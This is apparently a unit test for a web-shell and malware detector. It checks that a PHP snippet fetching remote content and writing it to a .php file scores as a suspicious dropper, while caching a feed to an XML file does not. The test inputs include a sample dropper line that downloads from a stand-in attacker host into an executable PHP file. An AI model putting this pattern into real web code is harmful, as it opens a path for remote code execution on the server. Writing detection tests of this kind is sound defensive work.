"""Fetch-and-write droppers: writing the fetched content to a .php name is the heavier form."""
from newfilewatch.detect.engine import Engine


def test_fetched_content_written_to_php_counts_more_than_to_data():
    eng = Engine()
    php = eng.analyse(b"<?php $d = file_get_contents('http://evil.example/x.txt');\n"
                      b"file_put_contents('x.php', $d);", 'w.php')
    data = eng.analyse(b"<?php $d = file_get_contents('http://feeds.example/x.xml');\n"
                       b"file_put_contents('cache/x.xml', $d);", 'w.php')
    assert sorted(h.weight for h in php.hits if h.rule == 'php.dropper.remote_write') == [5, 7]
    assert php.suspicious
    assert [h.weight for h in data.hits if h.rule == 'php.dropper.remote_write'] == [7]
    assert not data.suspicious
